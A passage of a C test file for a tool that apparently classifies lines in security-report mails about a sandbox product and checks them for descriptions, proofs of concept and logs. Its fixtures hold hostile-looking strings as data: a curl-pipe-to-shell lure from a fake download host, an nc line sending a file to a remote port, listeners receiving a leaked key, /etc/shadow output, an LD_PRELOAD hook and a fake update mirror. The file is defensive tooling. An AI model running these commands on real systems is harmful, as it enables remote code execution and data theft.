	  "POST /hook HTTP/1.1\nHost: 10.9.8.7:7000\n", 1, 1, 1 },
	{ PROSE "Geleneksel yöntemle gönderilecek istek:\n\nGET /v1/sandboxes HTTP/1.1\nHost: api.example\n", 1, -1, 0 },
	{ PROSE "Sunucuya şu isteği gönderin:\n\nGET /v1/sandboxes HTTP/1.1\nHost: api.example\n", 1, -1, 0 },
	/* (1313) rows of a process listing as ps aux and ps -ef print them
	 * are output; the command that asks for one, or numbers told in a
	 * sentence, are none */
	{ PROSE "Another user on the box ran ps and sent me this:\n\n"
	  "mira     40211  0.0  0.2 912344 18220 pts/3    S+   09:41   0:00 msb exec w1 -- env\n"
	  "mira     40230  3.1  1.1 2214400 90112 ?       Sl   09:41   0:12 /usr/lib/msb/msb-vmm --token t0\n", 1, -1, 1 },
	{ PROSE "On the build host:\n\nroot       812     1  0 09:14 ?        00:00:03 /usr/bin/msbd --listen 0.0.0.0:5555\n"
	  "root       833   812  0 09:14 ?        00:00:00 msb-agent --env API_KEY=abc\n", 1, -1, 1 },
	{ PROSE "I ran ps aux | grep msb and saw the key in the list; the output is gone.\n", 1, -1, 0 },
	{ PROSE "Sandbox w1 used 2048 MB and 2 CPUs for 14 minutes, then 3 more at 0.5 load.\n", 1, -1, 0 },
	/* (1320) a sentence that ends on the writer getting or seeing, or on
	 * what the program says or fails with, over a block: what it printed;
	 * a file or code the writer got, or what he does not get, is none */
	{ PROSE "I filled the scratch volume and after every restart I always get\n\n"
	  "    Error: volume 'scratch' could not be mounted: no space left\n", 1, -1, 1 },
	{ PROSE "After the second snapshot restore it fails with\n\n    restore: checksum mismatch in layer 3\n", 1, -1, 1 },
	{ PROSE "This is the file I got\n\n    token=abc123\n    user=dan\n", 1, -1, 0 },
	{ PROSE "What I do not get\n\n    why the guest keeps the old mount\n", 1, -1, 0 },
	/* (1314) steps told in words at the keyboard: a place word alone
	 * ("inside,") and "try to", curl or send as the action; a list of
	 * recommendations with such verbs is no reproduction */
	{ PROSE "I checked it like this:\n\n1. start a sandbox with networking turned off\n"
	  "2. inside, try to reach example.com: nothing, as expected\n"
	  "3. inside, curl the gateway address on port 8080: my dev server answers\n", 1, 1, 0 },
	{ PROSE "Suggestions:\n\n1. Send a warning when the network is off\n2. Try to block the gateway address\n"
	  "3. Document the behaviour in the networking guide\n", 1, 0, 0 },
	/* (1280) a steps heading in Vietnamese, Portuguese, Polish; a list
	 * under a heading of questions is none */
	{ PROSE "Các bước tái hiện:\n\n1. Mở trang console và đăng nhập.\n2. Vào mục Sandboxes của tổ chức khác.\n"
	  "3. Trang vẫn hiện danh sách.\n", 1, 1, 0 },
	{ PROSE "Passos para reproduzir:\n1. Entre no console.\n2. Abra a organização de outra pessoa.\n"
	  "3. A lista aparece.\n", 1, 1, 0 },
	{ PROSE "Kroki:\n1. Zaloguj się do konsoli.\n2. Otwórz cudzą organizację.\n3. Lista się pojawia.\n", 1, 1, 0 },
	{ PROSE "Tôi có ba câu hỏi:\n\n1. Lỗi này có nghiêm trọng không?\n2. Tôi có nên báo cho họ?\n"
	  "3. Khi nào sẽ có bản sửa?\n", 1, 0, 0 },
	/* (1331) the exploit held back until the team answers: what is shown
	 * around it reproduces nothing; a program said not to hold a payload
	 * back is no such promise */
	{ PROSE "We are holding back the working exploit until you confirm receipt.\n\n    $ ls -l /etc/x\n", 1, 0, -1 },
	{ PROSE "I held back the payload for now.\n\n    $ msb run --rm alpine -- sh /tmp/p.sh\n", 1, 0, -1 },
	{ PROSE "The proxy did not hold back the payload, so the request went out.\n\n"
	  "    $ msb run --rm alpine -- wget http://10.0.0.5/\n", 1, 1, -1 },
	/* (1284) Python written flush left: a with-statement's header is
	 * code, not a lead-in, and the block under it is no output */
	{ PROSE "from microsandbox import Sandbox\nimport io\n\nbuf = io.BytesIO()\n"
	  "with Sandbox.create(image=\"alpine\") as box:\n    note = b\"hello from the guest\\n\"\n"
	  "    box.files.write(\"/tmp/n\", note)\n", 1, 1, 0 },
	/* (1484) a debugger's stop on a signal and its backtrace frames, a
	 * UBSAN report: printed output, logs; the same told in prose is not */
	{ PROSE "Running the VMM under gdb:\n\n"
	  "    Thread 3 \"vcpu1\" received signal SIGBUS, Bus error.\n"
	  "    0x00007f3e2a1b4c10 in ?? ()\n", 1, -1, 1 },
	{ PROSE "Backtrace from the host:\n\n"
	  "    #0  0x00005612ab3c9d10 in vmm::devices::serial::Uart::write ()\n", 1, -1, 1 },
	{ PROSE "[   41.208113] UBSAN: shift-out-of-bounds in drivers/char/virtio_console.c:512:9\n", 1, -1, 1 },
	{ PROSE "The process received signal SIGSEGV and died; I will send the gdb backtrace later.\n", 1, -1, 0 },
	/* (1531) a here-document's lines up to its delimiter are what the
	 * writer typed into the command (a script, a config), whatever they
	 * look like: no output, no log, still the PoC's; what the script
	 * printed after the delimiter line is output.  A here-string ("<<<")
	 * and a shift ("1<<4") open none */
	{ PROSE "    $ cat > /var/tmp/probe <<'END'\n    #!/bin/sh\n    uid=0(root) gid=0(root) groups=0(root)\n"
	  "    END\n    $ chmod 755 /var/tmp/probe\n", 1, 1, 0 },
	{ PROSE "  $ tee /etc/msb/hook.conf <<-EOT\n  cat: /root/.ssh/id_ed25519: Permission denied\n"
	  "  Segmentation fault (core dumped)\n  EOT\n", 1, 1, 0 },
	{ PROSE "    $ python3 - <<\"PY\"\n    > import os\n    > print(\"uid=0(root) euid=0\")\n    > PY\n", 1, 1, 0 },
	{ PROSE "    msb exec w -- sh <<X1\n    ls -l /host\n    ls: /host: Permission denied\n    X1\n", 1, 1, 0 },
	{ PROSE "    $ cat > /var/tmp/probe <<EOF\n    id\n    EOF\n    $ sh /var/tmp/probe\n"
	  "    uid=0(root) gid=0(root) groups=0(root)\n", 1, 1, 1 },
	{ PROSE "    $ sh -s <<< 'id -u'\n    uid=0(root) gid=0(root) groups=0(root)\n", 1, 1, 1 },
	{ PROSE "    $ msb exec w -- sh -c 'echo $((1<<4)); id'\n    16\n    uid=0(root) gid=0(root) groups=0(root)\n", 1, 1, 1 },
	/* (1573) commands under a label for the account or the place they
	 * run in ("as alice:", "(inside)") are commands, not output: no log;
	 * what one of them printed under it still is */
	{ PROSE "I tried it with two accounts:\n\n   as alice:  msb run --name n alpine:3.20\n"
	  "              (inside) echo mark > /root/m\n              msb snapshot create n\n"
	  "   as bob:    msb snapshot ls\n              msb run --from-snapshot snap-1 alpine:3.20 cat /root/m\n\n"
	  "bob could read the file.\n", 1, 1, 0 },
	{ PROSE "Two accounts:\n\n   as bob:  msb snapshot ls\n   ID          OWNER   CREATED\n"
	  "   snap-91ac   alice   2026-11-02\n", 1, 1, 1 },
	/* (1862) a one-line try/catch of JavaScript in a block is code: with
	 * the call above it, two code lines make the snippet a PoC; a block
	 * line that only starts with "try" is not */
	{ PROSE "    const box = await Box.open({ token: process.env.TOK })\n"
	  "    try { await box.run(\"true\") } catch (err) { console.log(err.stack) }\n", 1, 1, -1 },
	{ PROSE "    const box = await Box.open({ token: process.env.TOK })\n"
	  "    } catch (err) {\n", 1, 1, -1 },
	{ PROSE "    const box = await Box.open({ token: process.env.TOK })\n"
	  "    try again with a larger image\n", 1, 0, -1 },
	/* (161) code typed flush left on a phone: a line that is one dotted
	 * call, or assigns what one returns, is code; prose with a dotted
	 * name before a parenthesis is not */
	{ PROSE "what my guest program does:\n\nimport socket\n"
	  "conn = socket.create_connection((\"192.0.2.1\", 80))\nconn.sendall(b\"GET / HTTP/1.0\\r\\n\\r\\n\")\n", 1, 1, -1 },
	{ PROSE "import socket\nsdk.log (the default file) grows.\nsee also app.cfg(5) in the manual.\n", 1, 0, -1 },
	/* (1111) a listener that only waits shows what arrived, the effect;
	 * with the guest's command that sent it, or serving a reply, it is
	 * part of a reproduction */
	{ PROSE "On my box:\n\n    $ nc -lvnp 9001\n    Listening on 0.0.0.0 9001\n"
	  "    Connection received on 192.0.2.44 40112\n    GET /?k=abc HTTP/1.1\n", 1, 0, 1 },
	{ PROSE "On my box:\n\n    $ sudo socat -v TCP-LISTEN:9001,fork -\n    GET /?k=abc HTTP/1.1\n", 1, 0, -1 },
	{ PROSE "Listener first, then the guest:\n\n    $ ncat -lk 9001\n"
	  "    $ msb run --network none alpine -- wget -qO- http://192.0.2.9:9001/\n", 1, 1, -1 },
	{ PROSE "The fake registry:\n\n    $ nc -l 8080 < redirect-307.http\n", 1, 1, -1 },
	{ PROSE "From the guest:\n\n    / # nc -w 3 192.0.2.9 4444 < /etc/hostname\n", 1, 1, -1 },
	/* (153) commands a third party hands out ("the spam tells users to
	 * run") are evidence of the lure, not the writer's run; the writer's
	 * own command under his own words still is one */
	{ PROSE "The spam we got tells users to run\n\n    curl -sSL https://msb-get.example/i | bash\n\n"
	  "Nobody here ran it.\n", 1, 0, -1 },
	{ PROSE "The fake update page asks\nvisitors to paste\n\n    curl -sSL https://msb-get.example/i | bash\n", 1, 0, -1 },
	{ PROSE "The chat bot instructs victims to execute:\n\ncurl -fsSL https://msb-get.example/i.sh | sh -s -- --yes\n", 1, 0, -1 },
	{ PROSE "I pasted this:\n\ncurl -fsSL https://msb-get.example/i.sh | sh -s -- --yes\n", 1, 1, -1 },
	{ PROSE "To see it, run\n\n    curl -sSL https://msb-get.example/i | bash\n", 1, 1, -1 },
	/* (1534) a workflow's "steps:" key over its "- uses:" and "- run:"
	 * entries is YAML, no heading of a reproduction; a prose heading over
	 * a list still is one */
	{ PROSE "Our CI job:\n\n    jobs:\n      build:\n        steps:\n          - uses: actions/checkout@v4\n"
	  "          - uses: actions/setup-node@v4\n          - run: npm test\n\nThe token is visible to the test.\n",
	  1, 0, -1 },
	{ PROSE "Steps:\n\n  - open the team page as a viewer\n  - pick the token list\n  - read another member's key\n",
	  1, 1, -1 },
};

/* Issue #3: the type of each line (P prose, C command, O output, K code,
 * M comment, - blank), and whether it continues a list item ('i'
 * after it).  An indented numbered or bulleted list reads as one flush
 * left does; an indented block (Markdown's four-space code, a command's
 * output, a log, YAML, a root prompt) stays a block. */
static const struct {
	const char *text;
	const char *types;   /* one letter a line, 'i' after an item's */
} line_cases[] = {
	/* (3393) a here-document and a binary run by its path in the
	 * package's directory, pasted from a chat with no prompt */
	{ "als User build:\ncat > /tmp/n.toml <<'EOF'\n[hooks]\npost_up = \"cp /bin/bash /tmp/rb\"\nEOF\n"
	  "/usr/lib/microsandbox/msb-netd --config /tmp/n.toml --oneshot\n", "P C K K K C" },
	/* (3384) the writer's note of what to type next into the program,
	 * and the frame typed under it: no output */
	{ "Account B:\n    websocat \"wss://api.example/v1/shares/shr_X/stream\"\n    then send this frame:\n"
	  "    {\"type\":\"stdin\",\"data\":\"touch /tmp/x\\n\"}\n", "P C M K" },
	/* (3428) a chat's next turn ends the list item the last turn was:
	 * the command and what it printed under it are a block */
	{ "Priya Raman  9:14 AM\n1) msbd.service ships with no systemd sandboxing at all\nPriya Raman  9:15 AM\n"
	  "$ systemd-analyze security msbd.service | tail -1\n\u2192 Overall exposure level for msbd.service: 9.6 "
	  "UNSAFE \U0001F628\n", "P Pi P C O" },
	/* (3355) a note in parentheses over the next command is the
	 * writer's, in full-width parentheses too; a count in parentheses
	 * and a note under the last command are what was printed */
	{ "$ msb run --name a alpine -- sleep 600\n(user B, another account)\n$ msb inspect a\n", "C M C" },
	{ "$ msb run --name a alpine -- sleep 600\n\uff08\u30e6\u30fc\u30b6\u30fcB\uff09\n$ msb inspect a\n", "C M C" },
	{ "$ psql -c 'select 1'\n(1 row)\n$ msb inspect a\n", "C O C" },
	{ "$ msb inspect a\n(secret shown in clear)\n", "C O" },
	/* (1769) a notebook cell: its further lines indented under its code
	 * are code, a line further left is what it printed */
	{ "In [2]: r = await sb.run(\"id\")\n        print(await r.output())\nuid=0(root) gid=0(root)\n", "C C O" },
	/* lists indented two, four spaces, a tab; the same flush left */
	{ "Steps:\n  1. Open a guest\n  2. Read the file\n", "P Pi Pi" },
	{ "Steps:\n    1. Open a guest\n    2. Read the file\n", "P Pi Pi" },
	{ "Steps:\n\t1. Open a guest\n\t2. Read the file\n", "P Pi Pi" },
	{ "Steps:\n1. Open a guest\n2. Read the file\n", "P Pi Pi" },
	{ "Steps:\n\n  - open a guest\n  - read the file\n", "P - Pi Pi" },
	/* an item holding an indented command, the next item stepping back out */
	{ "  1. Start one:\n       msb run --rm alpine\n  2. Look at /etc:\n       ls -la /etc\n",
	  "Pi Ci Pi Ci" },
	{ "1. Start one:\n     msb run --rm alpine\n2. Look at /etc.\n", "Pi Ci Pi" },
	/* a list nested under a bullet */
	{ "- Setup\n  - start a guest\n  - mount the share\n- Result\n  - the host file is read\n",
	  "Pi Pi Pi Pi Pi" },
	/* blocks: output with markers after a prompt, YAML, a root prompt */
	{ "    $ msb ls\n    - sbx-north running\n    - sbx-south running\n", "C O O" },
	{ "$ msb ls\n  - sbx-north running\n", "C O" },
	{ "Config:\n\n    - name: web\n      image: alpine\n", "P - O K" },
	{ "    # cat /etc/shadow\n    root:x:19000:0:99999:7:::\n", "C O" },
	{ "Log:\n\n  2026-11-30T10:00:01Z ERROR vsock: refused\n  - retrying\n", "P - O O" },
	/* a log line behind a number is the log's */
	{ "Log:\n\n  1. [  12.345] virtiofs: mount failed\n", "P - O" },
	/* (1223) above a block's first prompt nothing was printed yet: the
	 * host's command that opens the guest's shell is one; below a
	 * prompt an unprompted line is still its output */
	{ "    FOO=1 msb run -it alpine:3.20 sh\n    / # cat /etc/hostname\n    sbx-1\n", "C C O" },
	{ "    docker run --rm -it alpine sh\n    / # id\n    uid=0(root) gid=0(root)\n", "C C O" },
	{ "    $ msb --version\n    msb 0.9.4\n    curl -s http://x/\n", "C O O" },
	/* (1284) a Python with-statement's header is code wherever it
	 * stands, and so is "while True:"; a wrapped sentence that opens with
	 * "with" is not */
	{ "with tarfile.open(fileobj=buf, mode=\"w\") as t:\n", "K" },
	{ "async with client.session() as s, lock:\n", "K" },
	{ "while True:\n", "K" },
	{ "with sudo as root:\n", "P" },
	/* (#3) Python imports several modules on one line */
	{ "import json, socket, sys\n", "K" },
	{ "import os.path as p, re\n", "K" },
	{ "import these, then run it\n", "P" },
	/* (1531) a here-document's body and its delimiter line are input
	 * (code), the command after it a command again, its output output */
	{ "    $ cat > /var/tmp/h <<'EOF'\n    id\n    uid=0(root)\n    EOF\n    $ sh /var/tmp/h\n    uid=0(root)\n",
	  "C K K K C O" },
	{ "    $ cat <<EOF > /var/tmp/h\n    > echo hi\n    > EOF\n    $ cat /var/tmp/h\n    echo hi\n", "C K K C O" },
	/* no delimiter line: the lines are read as they are */
	{ "    $ cat > /var/tmp/h <<EOF\n    uid=0(root)\n", "C O" },
	/* (1573) a label for whom or where a command runs, with a colon or
	 * in brackets, is no output; "as expected:" and a bracketed note
	 * before words are not such a label */
	{ "    as alice:  msb run --name n alpine\n               (inside) touch /root/mark\n"
	  "    as user bob: msb snapshot ls\n", "C C C" },
	{ "    (guest) cat /mnt/shared/a\n    (as root) id\n    (on sbx-2) ls -la /data\n", "C C C" },
	{ "    as expected: cat printed nothing\n    (inside) 3 files\n", "O O" },
	{ "As shown: ls lists both snapshots.\n", "P" },
	/* a program run by its path with variables set for it, or its
	 * arguments continued on the next line, is a command; env's own
	 * output (a variable alone on its line) is not */
	{ "    PATH=/var/tmp/q:$PATH /opt/tool/bin/netctl \\\n        --up wg0\n    cat /var/tmp/q/log\n",
	  "C C C" },
	{ "    env LD_PRELOAD=/var/tmp/hook.so /usr/bin/newgrp staff\n", "C" },
	{ "    /usr/local/sbin/vmnet-tool \\\n      --bridge en0\n", "C C" },
	{ "    msb exec b1 -- env\n    HOME=/root\n    PATH=/usr/local/bin:/usr/bin\n", "C O O" },
	/* (round 257) a pasted chat: commands unindented (one "&&" between
	 * two, "python3 -m", "msb self-update"), and a chat's next turn ends
	 * the block a prompt opened */
	{ "mkdir -p mirror/v0.12.4 && cp fake.tar.gz mirror/v0.12.4/msb.tar.gz\n"
	  "python3 -m http.server 8000 -d mirror\n"
	  "MSB_UPDATE_MIRROR=http://127.0.0.1:8000 msb self-update --version 0.12.4\n", "C C C" },
	{ "$ msb --version\nmsb 0.12.3\nNoor Khatib  1:55 PM\nlol. and with a wrong sig?\n", "C O P P" },
	{ "$ date\n13:55\nFelix Brandt 1:57 PM\nok\n", "C O P P" },
	/* (round 271) Teams' turn line, the time before the name, ends the
	 * block too; a line the program printed with the time first is
	 * still output */
	{ "$ msb --version\nmsb 0.12.3\n[17/11 16:22] Marta Kowalska\nthe logs dir is group writable\n", "C O P P" },
	{ "$ msb --version\nmsb 0.12.3\n[10:32 AM] John Smith\nok\n", "C O P P" },
	{ "$ msbd --foreground\n[10:32:07] msbd started\n", "C O" },
	{ "2. In a: apt-get install -y dsniff tcpdump && sysctl -w\nnet.ipv4.ip_forward=1\n", "Pi Pi" },
};

static void
test_line_types(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char letter[] = { '-', 'P', 'C', 'C', 'K', 'M', 'O', 'F' };

	for (gsize i = 0; i < G_N_ELEMENTS(line_cases); i++) {
		g_autofree char *text = g_strdup(line_cases[i].text);
		Lines ls;
		st_x_lines_init(&ls, rules, text);
		g_autoptr(GString) got = g_string_new(NULL);
		for (guint k = 0; k < ls.n; k++) {
			const Line *l = &ls.l[k];
			if (k + 1 == ls.n && l->type == L_BLANK && l->s[0] == '\0')
				break;  /* the empty piece after the last newline */
			if (got->len)
				g_string_append_c(got, ' ');
			g_string_append_c(got, letter[l->type]);
			if (l->in_item)
				g_string_append_c(got, 'i');
		}
		st_x_lines_clear(&ls);
		if (strcmp(got->str, line_cases[i].types) != 0)
			FAIL("line case %zu (%.50s): want \"%s\", got \"%s\"", i, line_cases[i].text,
			     line_cases[i].types, got->str);
	}
}

static void
test_checklist(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(checks); i++) {
		g_autoptr(StAnalysis) a = analyse(rules, NULL, checks[i].body, NULL);
		int got[3] = { a->check[ST_CHECK_DESCRIPTION], a->check[ST_CHECK_POC], a->check[ST_CHECK_LOGS] };
		int want[3] = { checks[i].description, checks[i].poc, checks[i].logs };
		for (int k = 0; k < 3; k++)
			if (want[k] >= 0 && got[k] != want[k])
				FAIL("checklist case %zu item %d (%.60s): got %d", i, k,
					checks[i].body + (checks[i].body[0] == 'T' ? strlen(PROSE) : 0), got[k]);
		for (int k = 0; k < ST_CHECK_N; k++)
			if (a->check[k])
				g_assert_nonnull(a->check_evidence[k]);
	}
}

/* Issue #3: a capture on the host is the evidence and the script that made
 * the guest send the packets the reproduction: announced as attached and
 * left behind, the mail has none; attached in fact, it has one. */
static void
test_poc_observe_attached(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char body[] = PROSE "From the host, while the guest ran my sender:\n\n"
		"    $ sudo tcpdump -nni br0 icmp\n"
		"    10:00:01.1 IP 192.0.2.10 > 198.51.100.7: ICMP echo request, id 9, seq 1, length 64\n\n"
		"The sender (ping_tunnel.py) comes with this mail.\n";
	static const Att script[] = {
		{ "ping_tunnel.py", "text/x-python", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n" },
		{ NULL }
	};
	g_autoptr(StAnalysis) forgot = analyse(rules, NULL, body, NULL);
	g_autoptr(StAnalysis) sent = analyse(rules, NULL, body, script);

	g_assert_false(forgot->check[ST_CHECK_POC]);
	g_assert_true(forgot->check[ST_CHECK_LOGS]);
	g_assert_true(sent->check[ST_CHECK_POC]);
}

/* The reproduction said to be in an attached script (1593): forgotten,
 * the mail shows only the check of the result, no PoC; attached in fact,
 * the script is the PoC. */
static void
test_poc_in_attachment(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char body[] = PROSE "Steps to reproduce are in the attached script (it stops "
		"the sandbox after swapping the hook). Then on the host:\n\n"
		"    $ stat -c '%U %n' /var/tmp/hook-ran\n    root /var/tmp/hook-ran\n";
	static const Att script[] = {
		{ "swap_hook.sh", "application/x-sh", "#!/bin/sh\nmsb run -v /:/h alpine -- sh -c 'echo id > /h/hook'\n" },
		{ NULL }
	};
	g_autoptr(StAnalysis) forgot = analyse(rules, NULL, body, NULL);
	g_autoptr(StAnalysis) sent = analyse(rules, NULL, body, script);

	g_assert_false(forgot->check[ST_CHECK_POC]);
	g_assert_true(forgot->check[ST_CHECK_LOGS]);
	g_assert_true(sent->check[ST_CHECK_POC]);
}


int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_test_add_func("/extract/checklist", test_checklist);
	g_test_add_func("/extract/line-types", test_line_types);
	g_test_add_func("/extract/poc-observe-attached", test_poc_observe_attached);
	g_test_add_func("/extract/poc-in-attachment", test_poc_in_attachment);
	return g_test_run();
}
